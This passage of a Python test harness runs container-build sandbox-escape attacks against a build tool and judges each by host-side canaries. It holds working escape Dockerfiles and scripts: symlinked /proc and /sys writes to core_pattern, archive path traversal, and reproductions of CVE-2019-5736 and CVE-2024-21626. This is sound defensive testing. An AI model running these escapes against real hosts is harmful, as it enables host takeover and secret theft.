"""Sandbox escape campaign: every attack in every mode, judged by what the host sees.

``python -m hardening.escapes`` runs every attack (hostile Dockerfiles, contexts and a
static attacker tool, hardening/probe.c) in every mode of hardening/modes.py and prints
a markdown table, attack x mode. A cell is

* ``refused (error)``: the build stopped with exit 1 and a clear error, no traceback;
* ``contained``: the step ran and nothing outside the sandbox changed or leaked;
* ``ESCAPED (what)``: the host canary changed, a host secret was read, host state
  (core_pattern) changed, a host service was reached, or a privilege leaked;
* ``FAILED (why)``: a traceback or an exit status other than 0/1 (a defect, not an escape);
* ``n/a (reason)``: this machine cannot run the mode, or the attack has no meaning there.

Canaries are files and directories under a temporary directory; /proc/sys is only read
before and after (core_pattern is restored at once should a step ever change it);
devices are only opened for reading; binaries only opened for writing, never written.

The tests (tests/hardening/test_escapes.py) run the same cells through pytest.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from hardening.layers import simple_tar
from hardening.modes import (
    DRIVERS,
    MODES,
    Cli,
    Mode,
    Run,
    Unavailable,
    make_cli,
    restore_devices,
)
from hardening.modes import mode as _mode

HERE = Path(__file__).resolve().parent
BASE_TAG = "ocb-esc-base"
CORE_PATTERN = "/proc/sys/kernel/core_pattern"
MARKER = "ocb-escape-marker"
TOKEN = "ocb-canary-7f3a9c"
VERBOSE = bool(os.environ.get("OCB_ESCAPES_VERBOSE"))  # the host secret an attack tries to read

# Mode-independent attacks (registry input) run once, as root with the default sandbox.
HOST_SIDE = Mode("host-side", False, (), None)
COLUMNS = (*(m.name for m in MODES), HOST_SIDE.name)


def mode(name: str) -> Mode:
    return HOST_SIDE if name == HOST_SIDE.name else _mode(name)


BASE_DOCKERFILE = """\
FROM scratch
COPY busybox probe /bin/
COPY passwd group /etc/
RUN ["/bin/busybox", "--install", "-s", "/bin"]
"""


@dataclass(frozen=True)
class Outcome:
    kind: str  # refused | contained | ESCAPED | FAILED | n/a
    detail: str = ""

    def cell(self) -> str:
        return f"{self.kind} ({self.detail})" if self.detail else self.kind

    @property
    def safe(self) -> bool:
        return self.kind in ("refused", "contained")


# -- host canaries ------------------------------------------------------------------------


def snapshot(root: Path) -> dict[str, tuple[int, int, int, int, str]]:
    """Everything an attack could change under ``root``: type+mode, owner, size, mtime,
    content hash or link target; the root itself included."""
    out: dict[str, tuple[int, int, int, int, str]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in [".", *dirnames, *filenames]:
            path = os.path.join(dirpath, name) if name != "." else dirpath
            st = os.lstat(path)
            if stat.S_ISREG(st.st_mode):
                data = hashlib.sha256(Path(path).read_bytes()).hexdigest()
            elif stat.S_ISLNK(st.st_mode):
                data = os.readlink(path)
            else:
                data = ""
            rel = os.path.relpath(path, root)
            out[rel] = (st.st_mode, st.st_uid, st.st_size, st.st_mtime_ns, data)
    return out


def diff(before: dict[str, tuple[int, int, int, int, str]], after_root: Path) -> list[str]:
    """What changed under ``after_root`` since ``before``, paths shown as CANARY/..."""
    after = snapshot(after_root) if after_root.exists() else {}
    changes = [f"CANARY/{p} deleted" for p in sorted(set(before) - set(after))]
    changes += [f"CANARY/{p} created" for p in sorted(set(after) - set(before))]
    for p in sorted(set(before) & set(after)):
        if before[p] != after[p]:
            what = ("mode", "owner", "size", "mtime", "content")
            fields = [w for w, a, b in zip(what, before[p], after[p], strict=True) if a != b]
            changes.append(f"CANARY/{p} {'/'.join(fields)} changed")
    return changes


@contextlib.contextmanager
def core_pattern_guard(found: list[str]) -> Iterator[None]:
    """Read core_pattern before and after; restore it at once if a step changed it."""
    original = Path(CORE_PATTERN).read_text()
    try:
        yield
    finally:
        now = Path(CORE_PATTERN).read_text()
        if now != original:
            Path(CORE_PATTERN).write_text(original)
            found.append(f"host {CORE_PATTERN} was changed to {now.strip()!r} (restored)")


# -- one cell -------------------------------------------------------------------------------


@dataclass
class Cell:
    """One attack in one mode (and storage driver): a fresh context and canary."""

    mode: Mode
    driver: str
    cli: Cli
    work: Path
    escapes: list[str] = field(default_factory=list)

    @property
    def owner(self) -> tuple[int, int]:
        if self.cli.user is None:
            return (0, 0)
        import pwd

        e = pwd.getpwnam(self.cli.user)
        return (e.pw_uid, e.pw_gid)

    def context(self, name: str = "ctx") -> Path:
        ctx = self.work / name
        ctx.mkdir(parents=True, exist_ok=True)
        return ctx

    def canary(self) -> Path:
        """A host dir the build's user owns: a secret file, an empty file and dir, a subdir."""
        c = self.work / "canary"
        if not c.exists():
            (c / "sub").mkdir(parents=True)
            (c / "secret").write_text(TOKEN + "\n")
            (c / "sub" / "keep").write_text("keep\n")
            for name in ("t1", "t2", "t3", "t4", "target"):
                (c / name).write_text("")
            (c / "tdir").mkdir()
            (c / "pp").mkdir()
            (c / "ss").mkdir()
            (c / "dd").mkdir()
            (c / "dd" / "ptmx").write_text("host file named ptmx\n")
            uid, gid = self.owner
            for p in [c, *c.rglob("*")]:
                os.lchown(p, uid, gid)
                if not p.is_symlink():
                    p.chmod(0o755 if p.is_dir() else 0o644)
            os.utime(c, ns=(1_000_000_000, 1_000_000_000))
        return c

    def build(self, dockerfile: str, *args: str, ctx: Path | None = None, **kw: Any) -> Run:
        ctx = ctx or self.context()
        (ctx / "Dockerfile").write_text(dockerfile)
        _share(self.work)
        run = self.cli.build(ctx, "--no-cache", *args, driver=self.driver, **kw)
        if VERBOSE:
            print(
                f"--- {self.mode.name}/{self.driver}: exit {run.returncode}\n{dockerfile}"
                f"{run.output}",
                file=sys.stderr,
            )
        return run


def _share(path: Path) -> None:
    """World-readable (the rootless user reads contexts; pytest tmp dirs are private)."""
    for p in [path, *path.rglob("*")]:
        if p.is_symlink():
            continue
        mode = p.stat().st_mode
        p.chmod(mode | (0o555 if p.is_dir() else 0o444))


def judge(
    cell: Cell,
    run: Run,
    canary_before: dict[str, tuple[int, int, int, int, str]] | None,
    note: str = "",
) -> Outcome:
    """The cell's outcome from what the host observes after the build (``note``: what
    the step saw, shown for a contained cell)."""
    found = list(cell.escapes)
    if canary_before is not None:
        found += diff(canary_before, cell.work / "canary")
    if found:
        return Outcome("ESCAPED", "; ".join(found))
    if run.returncode == 0:
        return Outcome("contained", note)
    if "Traceback" in run.stderr or run.returncode != 1:
        return Outcome("FAILED", f"exit {run.returncode}: {_tail(run.stderr)}")
    return Outcome("refused", error_text(run.stderr))


def error_text(stderr: str) -> str:
    lines = [ln.strip() for ln in stderr.splitlines() if ln.strip()]
    for ln in reversed(lines):
        if ln.lower().startswith(("error", "ocibuild: error")):
            return _short(ln)
    return _short(lines[-1]) if lines else "no message"


def _tail(text: str) -> str:
    lines = [ln for ln in text.splitlines() if ln.strip()]
    return _short(lines[-1]) if lines else ""


def _short(text: str, n: int = 110) -> str:
    text = text.replace("|", "/")
    return text if len(text) <= n else text[: n - 3] + "..."


def lines_with(run: Run, key: str) -> list[str]:
    """Output lines of the steps holding ``key`` (not the echoed `RUN ...` headers)."""
    return [
        ln.strip()
        for ln in run.output.splitlines()
        if key in ln and " RUN " not in ln and not ln.lstrip().startswith(("RUN ", "|"))
    ]


def said(run: Run, line: str) -> bool:
    """Whether a step printed exactly ``line``."""
    return any(ln.strip() == line for ln in run.output.splitlines())


# -- the attacks ----------------------------------------------------------------------------

AttackFn = Callable[[Cell], Outcome]


@dataclass(frozen=True)
class Attack:
    name: str
    fn: AttackFn
    drivers: tuple[str, ...] = ("overlay",)  # the storage drivers that matter
    slow: bool = False
    doc: str = ""
    independent: bool = False  # mode-independent: one cell, in the host-side column


ATTACKS: list[Attack] = []


def attack(
    name: str,
    drivers: tuple[str, ...] = ("overlay",),
    slow: bool = False,
    independent: bool = False,
) -> Callable[[AttackFn], AttackFn]:
    def register(fn: AttackFn) -> AttackFn:
        doc = (fn.__doc__ or "").strip()
        ATTACKS.append(Attack(name, fn, drivers, slow, doc, independent))
        return fn

    return register


def _symlink_fs(cell: Cell, fs: str, host_dir: str) -> Outcome:
    canary = cell.canary()
    target = canary / host_dir
    probe = {
        "proc": f"echo {MARKER} > /proc/sys/kernel/core_pattern; "
        f"echo {MARKER} > {target}/sys/kernel/core_pattern; cat /proc/sys/kernel/core_pattern",
        "sys": f"echo {MARKER} > /sys/kernel/uevent_helper; ls /sys/block",
        "dev": "head -c1 /dev/null; ls -la /dev",
    }[fs]
    # The base has /proc, /sys, /dev (its RUN left them, as BuildKit's layers do): the
    # attacked image is the base's tree without them, and the link in their place.
    dockerfile = (
        f"FROM {BASE_TAG} AS evil\n"
        f"RUN mkdir -p /x && ln -s {target} /x/{fs} && cp -a /bin /etc /x/\n"
        "FROM scratch\n"
        "COPY --from=evil /x/ /\n"
        f"RUN {probe}; true\n"
    )
    before = snapshot(canary)
    run = cell.build(dockerfile)
    return judge(cell, run, before)


@attack("proc-symlink")
def proc_symlink(cell: Cell) -> Outcome:
    """/proc is an absolute symlink to a host dir (COPY --from a stage); RUN writes
    /proc/sys/kernel/core_pattern. Host core_pattern and the dir must be unchanged."""
    return _symlink_fs(cell, "proc", "pp")


@attack("sys-symlink")
def sys_symlink(cell: Cell) -> Outcome:
    """/sys is an absolute symlink to a host dir; RUN writes /sys/kernel/uevent_helper."""
    return _symlink_fs(cell, "sys", "ss")


@attack("dev-symlink")
def dev_symlink(cell: Cell) -> Outcome:
    """/dev is an absolute symlink to a host dir: device nodes and /dev/fd links must not
    be created there."""
    return _symlink_fs(cell, "dev", "dd")


@attack("mount-target-symlink", drivers=DRIVERS)
def mount_target_symlink(cell: Cell) -> Outcome:
    """RUN --mount targets through symlinks to a host dir: a bind from a stage holding
    `link -> HOST` with a tmpfs mounted below `link`, and a target under a symlink of the
    step's own rootfs; plus many mounts. Nothing may be created or changed on the host."""
    canary = cell.canary()
    mounts = " ".join(f"--mount=type=tmpfs,target=/t/m{i}" for i in range(12))
    dockerfile = (
        f"FROM {BASE_TAG} AS src\n"
        f"RUN mkdir -p /d/real && ln -s {canary} /d/link && echo x > /d/real/f\n"
        f"FROM {BASE_TAG}\n"
        f"RUN ln -s {canary} /t\n"
        "RUN --mount=type=bind,from=src,source=/d,target=/m "
        "--mount=type=tmpfs,target=/m/link/sub2 "
        "--mount=type=cache,target=/m/link/cache2 "
        f"{mounts} ls /m /t; true\n"
    )
    before = snapshot(canary)
    run = cell.build(dockerfile)
    return judge(cell, run, before)


@attack("mount-source-symlink-dir", drivers=DRIVERS)
def mount_source_symlink(cell: Cell) -> Outcome:
    """A bind mount whose source in another stage is a symlink to a host dir (rw): the
    step writes into it. The host dir must be unchanged, the secret unread."""
    canary = cell.canary()
    dockerfile = (
        f"FROM {BASE_TAG} AS src\n"
        f"RUN ln -s {canary} /hostdir\n"
        f"FROM {BASE_TAG}\n"
        "RUN --mount=type=bind,from=src,source=/hostdir,target=/m,rw "
        "cat /m/secret; touch /m/created; rm -f /m/target; true\n"
    )
    before = snapshot(canary)
    run = cell.build(dockerfile)
    if TOKEN in run.output:
        cell.escapes.append("the host secret was read through the mount")
    return judge(cell, run, before)


@attack("bind-rw-hardlink", drivers=DRIVERS)
def bind_rw_hardlink(cell: Cell) -> Outcome:
    """A context bind mount (read-only, then `rw`, whose writes BuildKit discards): the
    step appends to its files, hardlinks one into the image and writes through the link
    in the next step. The context files on the host must be unchanged."""
    ctx = cell.context()
    data = ctx / "data"
    data.mkdir()
    (data / "f").write_text("host file\n")
    uid, gid = cell.owner
    for p in (data, data / "f"):
        os.chown(p, uid, gid)
    _share(cell.work)
    before = snapshot(data)
    dockerfile = (
        f"FROM {BASE_TAG}\n"
        "RUN --mount=type=bind,source=data,target=/ro echo x >> /ro/f; ln /ro/f /ro-link; true\n"
        "RUN --mount=type=bind,source=data,target=/rw,rw echo x >> /rw/f; touch /rw/new; "
        "ln /rw/f /rw-link; true\n"
        "RUN for l in /ro-link /rw-link; do [ -e $l ] && echo x >> $l; done; true\n"
    )
    run = cell.build(dockerfile, ctx=ctx)
    changes = diff(before, data)
    if changes:
        cell.escapes.append("host context changed: " + "; ".join(changes))
    return judge(cell, run, None)


@attack("device-mknod", drivers=DRIVERS)
def device_mknod(cell: Cell) -> Outcome:
    """mknod of the host root disk's block device in RUN, then open it for reading."""
    dev = os.stat("/").st_dev
    run = cell.build(f"FROM {BASE_TAG}\nRUN /bin/probe dev {os.major(dev)} {os.minor(dev)}\n")
    if "open_disk=ok" in run.output:
        cell.escapes.append(
            f"opened the host root disk {os.major(dev)}:{os.minor(dev)} for reading "
            f"({', '.join(lines_with(run, '_disk='))})"
        )
    return judge(
        cell, run, None, ", ".join(lines_with(run, "mknod=") + lines_with(run, "open_disk="))
    )


@attack("cleanup-walk", drivers=DRIVERS)
def cleanup_walk(cell: Cell) -> Outcome:
    """RUN with tmpfs, cache, bind and secret mounts at /a/b/tN (ocibuild creates the stub
    parents) renames /a/b away and puts `/a/b -> HOST canary` in its place: the stub
    cleanup after the step must not delete, create or touch anything in the canary."""
    canary = cell.canary()
    ctx = cell.context()
    (ctx / "s.txt").write_text("s\n")
    dockerfile = (
        f"FROM {BASE_TAG}\n"
        "RUN --mount=type=tmpfs,target=/a/b/t1 --mount=type=cache,target=/a/b/t2 "
        "--mount=type=bind,source=s.txt,target=/a/b/t3 "
        "--mount=type=secret,id=s,target=/a/b/t4 "
        "--mount=type=tmpfs,target=/a/b/target --mount=type=tmpfs,target=/a/b/tdir "
        f"mv /a/b /a/old && ln -s {canary} /a/b && ls -la /a/\n"
    )
    before = snapshot(canary)
    run = cell.build(dockerfile, "--secret", f"id=s,src={ctx / 's.txt'}", ctx=ctx)
    return judge(cell, run, before)


@attack("keyring")
def keyring(cell: Cell) -> Outcome:
    """The build runs in a session keyring holding `user ocb-canary`: RUN must not see
    it (/proc/keys, keyctl search @s, read)."""
    if shutil.which("keyctl") is None:
        return Outcome("n/a", "keyctl is not installed (keyutils; make setup installs it)")
    script = f'keyctl add user ocb-canary {TOKEN} @s >/dev/null && exec "$@"'
    wrap = ["keyctl", "session", "-", "sh", "-c", script, "sh"]
    run = cell.build(f"FROM {BASE_TAG}\nRUN /bin/probe keyring 0\n", wrap=wrap)
    if TOKEN in run.output:
        cell.escapes.append("read the host session key's payload")
    elif "ocb-canary" in run.output:
        cell.escapes.append(
            "the host session key is visible: "
            + "; ".join(ln for ln in lines_with(run, "ocb-canary")[:2])
        )
    return judge(cell, run, None)


@attack("seccomp")
def seccomp(cell: Cell) -> Outcome:
    """Syscalls Docker's default seccomp profile blocks: unshare(CLONE_NEWUSER) then
    mount, add_key, kexec_load, open_by_handle_at (shocker)."""
    run = cell.build(f"FROM {BASE_TAG}\nRUN /bin/probe seccomp\n")
    allowed = [
        key for key in ("mount_in_userns", "add_key", "kexec_load") if f"{key}=ok" in run.output
    ]
    shocker = [
        ln
        for ln in lines_with(run, "open_by_handle_at=")
        if ln.split("=")[1] not in ("EPERM", "ENOSYS")
    ]
    if shocker:
        allowed.append(f"open_by_handle_at ({shocker[0].split('=')[1]}, not EPERM)")
    if "mount_in_userns" in allowed:
        allowed[allowed.index("mount_in_userns")] = "unshare(CLONE_NEWUSER)+mount"
    if allowed:
        cell.escapes.append("allowed: " + ", ".join(allowed))
    return judge(cell, run, None)


@attack("store-permissions")
def store_permissions(cell: Cell) -> Outcome:
    """As another local user (nobody): read the store, a build log, a config blob with a
    build-arg value; flock ROOT/lock; run a setuid binary a RUN left in a cache mount or
    a --keep-failed upper dir."""
    store = cell.cli.store / "st"  # ocibuild creates it (the mode's own defaults)
    if cell.cli.user is None:
        cli = Cli(cell.mode, store)
    else:
        cli = Cli(cell.mode, cell.cli.store, cell.cli.user)  # XDG_DATA_HOME/ocibuild
        store = cell.cli.store / "ocibuild"
    ctx = cell.context()
    base = ctx / "base"
    shutil.copytree(cell.work.parent / "basectx", base, dirs_exist_ok=True)
    _share(cell.work)
    run = cli.build(base, "-q", "-t", BASE_TAG, driver=cell.driver)
    if run.returncode != 0:
        return Outcome("FAILED", "base image: " + error_text(run.stderr))
    (ctx / "Dockerfile").write_text(
        f"FROM {BASE_TAG}\nARG SECRETARG\n"
        "RUN --mount=type=cache,target=/c echo $SECRETARG >/dev/null && "
        "cp /bin/probe /c/suidprobe && chmod 4755 /c/suidprobe\n"
    )
    _share(cell.work)
    ok = cli.build(ctx, "--build-arg", f"SECRETARG={TOKEN}", driver=cell.driver)
    (ctx / "Dockerfile").write_text(
        f"FROM {BASE_TAG}\nRUN cp /bin/probe /keptprobe && chmod 4755 /keptprobe && false\n"
    )
    cli.build(ctx, "--keep-failed", driver=cell.driver)
    if ok.returncode != 0:
        return Outcome("FAILED", "build: " + error_text(ok.stderr))
    found = []
    if _as_nobody(["ls", str(store)]).returncode == 0:
        found.append("lists ROOT")
    secret_files = [p for p in _files(store) if _contains(p, TOKEN)]
    readable = [p for p in secret_files if _as_nobody(["head", "-c1", str(p)]).returncode == 0]
    if readable:
        found.append(f"reads the build-arg value in {_rel(readable[0], store)}")
    logs = [p for p in _files(store) if "log" in p.name]
    if any(_as_nobody(["head", "-c1", str(p)]).returncode == 0 for p in logs):
        found.append("reads a build log")
    lock = store / "lock"
    if lock.exists():
        code = f"import fcntl;f=open({str(lock)!r});fcntl.flock(f,fcntl.LOCK_EX|fcntl.LOCK_NB)"
        if (
            _as_nobody(
                [sys.executable if _world_exec_py() else "/usr/bin/python3", "-c", code]
            ).returncode
            == 0
        ):
            found.append("flocks ROOT/lock (blocks every build)")
    for name in ("suidprobe", "keptprobe"):
        for p in _files(store):
            if p.name != name:
                continue
            res = _as_nobody([str(p), "whoami"])
            if res.returncode == 0 and "euid=" in res.stdout:
                euid = res.stdout.split("euid=")[1].split()[0]
                if euid != str(_nobody_uid()):
                    found.append(f"runs setuid {name} from {_rel(p, store)} as euid {euid}")
                    break
    cell.escapes.extend(found)
    return judge(cell, ok, None)


def _world_exec_py() -> bool:
    from hardening.modes import _world_executable

    return _world_executable(os.path.realpath(sys.executable))


def _nobody_uid() -> int:
    import pwd

    return pwd.getpwnam("nobody").pw_uid


def _as_nobody(cmd: list[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["runuser", "-u", "nobody", "--", *cmd], capture_output=True, text=True, timeout=30
    )


def _files(root: Path) -> list[Path]:
    out = []
    for dirpath, _dirs, files in os.walk(root):
        out += [Path(dirpath, f) for f in files if os.path.isfile(os.path.join(dirpath, f))]
    return out


def _contains(path: Path, text: str) -> bool:
    try:
        with open(path, "rb") as f:
            return text.encode() in f.read(4 << 20)
    except OSError:
        return False


def _rel(path: Path, root: Path) -> str:
    return "ROOT/" + os.path.relpath(path, root)


@attack("add-archive-escape")
def add_archive(cell: Cell) -> Outcome:
    """ADD of an archive with `up -> ..` then `up/etc/x`, and one with `h -> HOST dir`
    then `h/x`: nothing outside /dest, nothing on the host."""
    canary = cell.canary()
    ctx = cell.context()
    (ctx / "dotdot.tar").write_bytes(
        simple_tar([("up", b"", ".."), ("up/etc/x", b"escaped\n", "")])
    )
    (ctx / "host.tar").write_bytes(simple_tar([("h", b"", str(canary)), ("h/x", b"escaped\n", "")]))
    before = snapshot(canary)
    for archive in ("dotdot.tar", "host.tar"):
        run = cell.build(
            f"FROM {BASE_TAG}\nADD {archive} /dest/\n"
            "RUN if [ -e /etc/x ] || [ -e /x ]; then echo OUTSIDE-DEST; fi\n",
            ctx=ctx,
        )
        if said(run, "OUTSIDE-DEST"):
            cell.escapes.append(f"{archive}: a file was written outside /dest in the image")
        outcome = judge(cell, run, before)
        if not outcome.safe or archive == "host.tar":
            return outcome
    raise AssertionError("unreachable")


class _Listener:
    """A TCP listener on the host's 127.0.0.1 that records who connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self.stop = False
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _loop(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.hits += 1
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.sock.close()


@attack("network")
def network(cell: Cell) -> Outcome:
    """RUN connects to a TCP listener on the host's 127.0.0.1: must fail by default
    (RUN --network=host is the control and must connect). No traffic to 169.254.169.254:
    the step only reports whether it has a route off the box (/proc/net/route)."""
    listener = _Listener()
    try:
        run = cell.build(
            f"FROM {BASE_TAG}\nRUN /bin/probe net 127.0.0.1 {listener.port}; "
            'echo "off-box-routes=$(tail -n +2 /proc/net/route | wc -l)"\n'
        )
        default_hits = listener.hits
        control = cell.build(
            f"FROM {BASE_TAG}\nRUN --network=host /bin/probe net 127.0.0.1 {listener.port}\n"
        )
        control_hits = listener.hits - default_hits
    finally:
        listener.close()
    routes = [ln.split("=", 1)[1] for ln in lines_with(run, "off-box-routes=") if ln[-1:].isdigit()]
    off_box = f"{routes[0]} route(s) off the box" if routes else "no route list"
    if default_hits:
        cell.escapes.append(f"reached the host's 127.0.0.1:{listener.port} by default; {off_box}")
    seen = lines_with(run, "connect=")
    outcome = judge(cell, run, None, f"{seen[0] if seen else 'no probe output'}; {off_box}")
    if outcome.kind == "contained" and not control_hits:
        why = error_text(control.stderr) if control.returncode else "no connection"
        return Outcome("FAILED", f"RUN --network=host did not reach the host listener: {why}")
    return outcome


METADATA = "169.254.169.254"
# Runs the build in a network namespace this suite creates, where the cloud metadata
# address is a local address with a listener: no packet leaves the machine.
METADATA_NETNS = f"""\
ip link set lo up && ip addr add {METADATA}/32 dev lo || exit 97
"$OCB_PY" -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("{METADATA}", 80)); s.listen(8); open(sys.argv[1] + ".ready", "w").close()
while True:
    c, _ = s.accept(); open(sys.argv[1], "a").write("hit\\n"); c.close()
' "$OCB_HITS" &
listener=$!
i=0; while [ ! -e "$OCB_HITS.ready" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
"$@"; rc=$?
kill $listener
exit $rc
"""


@attack("network-metadata")
def network_metadata(cell: Cell) -> Outcome:
    """RUN connects to 169.254.169.254:80 (the cloud metadata address) with a 2 s
    timeout: unreachable by default. The build runs in a network namespace the suite
    creates (`unshare --net`), where that address is a local listener."""
    if shutil.which("ip") is None or shutil.which("unshare") is None:
        return Outcome("n/a", "needs ip (iproute2) and unshare to fake the address")
    hits = cell.work / "metadata-hits"
    env = f"OCB_HITS={hits}"
    python = f"OCB_PY={shutil.which('python3') or sys.executable}"
    outer = ["unshare", "--net", "--", "env", env, python, "sh", "-c", METADATA_NETNS, "sh"]
    run = cell.build(f"FROM {BASE_TAG}\nRUN /bin/probe net {METADATA} 80\n", outer=outer)
    if run.returncode == 97:
        return Outcome("n/a", "cannot add 169.254.169.254 in a new network namespace")
    if hits.exists() and hits.read_text():
        cell.escapes.append(f"reached {METADATA}:80 from the step (default network)")
    seen = lines_with(run, "connect=")
    return judge(cell, run, None, seen[0] if seen else "no probe output")


@attack("proc-self-exe")
def proc_self_exe(cell: Cell) -> Outcome:
    """CVE-2019-5736: open every visible /proc/PID/exe (and through O_PATH) for writing;
    run /proc/self/exe as the step's command (the runtime's or helper's own binary)."""
    run = cell.build(f"FROM {BASE_TAG}\nRUN /bin/probe exe\n")
    writable = lines_with(run, "write_open=ok")
    if writable:
        cell.escapes.append("binary writable: " + "; ".join(writable[:3]))
    outcome = judge(cell, run, None)
    if not outcome.safe:
        return outcome
    run2 = cell.build(
        f"FROM {BASE_TAG}\nRUN printf '#!/proc/self/exe\\n' > /bin/evil && chmod 755 /bin/evil\n"
        'RUN ["/bin/evil", "--version"]\n'
    )
    ran = [w for w in ("runc version", "crun version", "Python") if w in run2.output]
    if ran:
        # a host binary executes inside the sandbox: the precondition of the CVE; the
        # overwrite itself is what the first probe tried
        return Outcome(outcome.kind, f"host binary runs inside ({ran[0]}) but not writable")
    return outcome


EVIL_PY = """\
#!/proc/self/exe -S
import os
fd = os.open("/proc/self/exe", os.O_PATH)
os.set_inheritable(fd, True)
if os.fork() == 0:
    os.execv("/bin/probe", ["probe", "reopen", str(fd)])
os.execv("/bin/sleep", ["sleep", "3"])
"""


def _host_binaries(cell: Cell) -> list[str]:
    """The host binaries a step's first exec can resolve /proc/self/exe to: the runtime,
    or for the native helper the interpreter ocibuild runs in."""
    if cell.mode.runtime:
        found = shutil.which(cell.mode.runtime)
        return [os.path.realpath(found)] if found else []
    if cell.cli.user is None:
        return [os.path.realpath(sys.executable)]
    from hardening.modes import python_for_others

    return [os.path.realpath(python_for_others()[0])]


def _sysroot(ctx: Path, binaries: list[str]) -> None:
    """What the attacker ships so a host binary can start in the image: its shared
    libraries at their host paths, and the `encodings` package for a Python."""
    root = ctx / "sysroot"
    root.mkdir(exist_ok=True)
    for binary in binaries:
        out = subprocess.run(["ldd", binary], capture_output=True, text=True).stdout
        for ln in out.splitlines():
            parts = ln.split()
            lib = parts[2] if "=>" in parts and len(parts) > 2 else parts[0]
            if lib.startswith("/") and os.path.exists(lib):
                dest = root / lib.lstrip("/")
                dest.parent.mkdir(parents=True, exist_ok=True)
                shutil.copy(lib, dest)
    home = ctx / "pyhome" / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}"
    home.mkdir(parents=True, exist_ok=True)
    stdlib = os.path.dirname(os.__file__)
    shutil.copytree(os.path.join(stdlib, "encodings"), home / "encodings", dirs_exist_ok=True)


@attack("runtime-exe-overwrite")
def runtime_exe_overwrite(cell: Cell) -> Outcome:
    """CVE-2019-5736 in full: the image's /bin/sh is a script whose interpreter is
    /proc/self/exe, so a shell-form step's first exec runs the host binary that started
    the step (the runtime; for native-chroot the Python interpreter ocibuild runs in).
    As a Python it runs the script: keep an O_PATH fd on the binary, fork a child that
    execs the probe, exec away, and the probe reopens the binary for writing (never
    writes)."""
    ctx = cell.context()
    _sysroot(ctx, _host_binaries(cell))
    (ctx / "evil").write_text(EVIL_PY)
    (ctx / "evil").chmod(0o755)
    run = cell.build(
        f"FROM {BASE_TAG}\nCOPY sysroot/ /\nCOPY pyhome /pyhome\nRUN rm /bin/sh\n"
        "COPY evil /bin/sh\nENV PYTHONHOME=/pyhome\n"
        "RUN echo a shell-form step: the runtime execs /bin/sh, now #!/proc/self/exe\n",
        ctx=ctx,
    )
    writable = lines_with(run, "EXE-WRITABLE")
    if writable:
        cell.escapes.append(
            "host binary opened for writing from the step: " + writable[0].split(" ", 1)[1]
        )
    outcome = judge(cell, run, None, "; ".join(lines_with(run, "exe-reopen")))
    if outcome.kind == "refused" and "did not complete successfully" in run.stderr:
        # the runtime's own binary ran inside (runc: a sealed copy) and rejected the
        # script's arguments: the step failed, the host binary was never reachable
        code = (
            run.stderr.split("exit code:", 1)[-1].split()[0] if "exit code:" in run.stderr else "?"
        )
        return Outcome("contained", f"{cell.mode.runtime} ran as the step, exit {code}")
    return outcome


@attack("leaked-fds")
def leaked_fds(cell: Cell) -> Outcome:
    """CVE-2024-21626: inherited fds pointing outside the rootfs (walk '..' from each
    directory fd to the host secret)."""
    canary = cell.canary()
    rel = str(canary / "secret").lstrip("/")
    run = cell.build(f"FROM {BASE_TAG}\nRUN /bin/probe fds {rel}\n")
    if TOKEN in run.output:
        cell.escapes.append("read the host secret: " + "; ".join(lines_with(run, "LEAK")[:2]))
    return judge(cell, run, None)


@attack("workdir-proc-fd", slow=True)
def workdir_proc_fd(cell: Cell) -> Outcome:
    """CVE-2024-21626: WORKDIR /proc/self/fd/N (N = 3..8), then read the host secret
    through '..' from the working directory."""
    canary = cell.canary()
    up = "../" * 20
    outcomes = []
    for n in range(3, 9):
        run = cell.build(
            f"FROM {BASE_TAG}\nWORKDIR /proc/self/fd/{n}\n"
            f"RUN cat {up}{str(canary).lstrip('/')}/secret; true\n"
        )
        if TOKEN in run.output:
            cell.escapes.append(f"WORKDIR /proc/self/fd/{n} reached the host secret")
        outcomes.append(judge(cell, run, None))
        if not outcomes[-1].safe:
            return outcomes[-1]
    kinds = sorted({o.kind for o in outcomes})
    refused = [o.detail for o in outcomes if o.kind == "refused"]
    if kinds == ["refused"]:
        return Outcome("refused", refused[0])
    return Outcome("contained", f"{len(refused)} of 6 refused" if refused else "")


@attack("capabilities")
def capabilities(cell: Cell) -> Outcome:
    """CVE-2022-29162: inheritable and ambient capabilities are empty for root steps; a
    USER 1000 step has none at all, even running a binary with inheritable file
    capabilities (fI = all, effective)."""
    run = cell.build(
        f"FROM {BASE_TAG}\nRUN grep Cap /proc/self/status | sed s/^/root-/\n"
        "RUN mkdir /opt && cp /bin/busybox /opt/grep && /bin/probe setfcap /opt/grep\n"
        "USER 1000\nRUN grep Cap /proc/self/status | sed s/^/user-/\n"
        "RUN /opt/grep Cap /proc/self/status | sed s/^/fcap-/\n"
    )
    bad = []
    for ln in run.output.splitlines():
        ln = ln.strip()
        if not ln.startswith(("root-Cap", "user-Cap", "fcap-Cap")) or ":" not in ln:
            continue
        key, value = ln.split(":", 1)
        value = value.strip()
        if int(value, 16) == 0 or key.endswith("CapBnd"):
            continue
        if key.endswith(("CapInh", "CapAmb")) or not key.startswith("root-"):
            bad.append(f"{key}={value}")
    if bad:
        cell.escapes.append("capabilities leak: " + ", ".join(bad))
    return judge(cell, run, None, ", ".join(lines_with(run, "setfcap=")))


@attack("bind-source-escape")
def bind_source_escape(cell: Cell) -> Outcome:
    """CVE-2024-1753: RUN --mount=type=bind with source `../../..HOST`, an absolute host
    path, and `..` from another stage; rw, the step also writes there."""
    canary = cell.canary()
    ctx = cell.context()
    variants = [
        f"source={'../' * 12}{str(canary).lstrip('/')}",
        f"source={canary}",
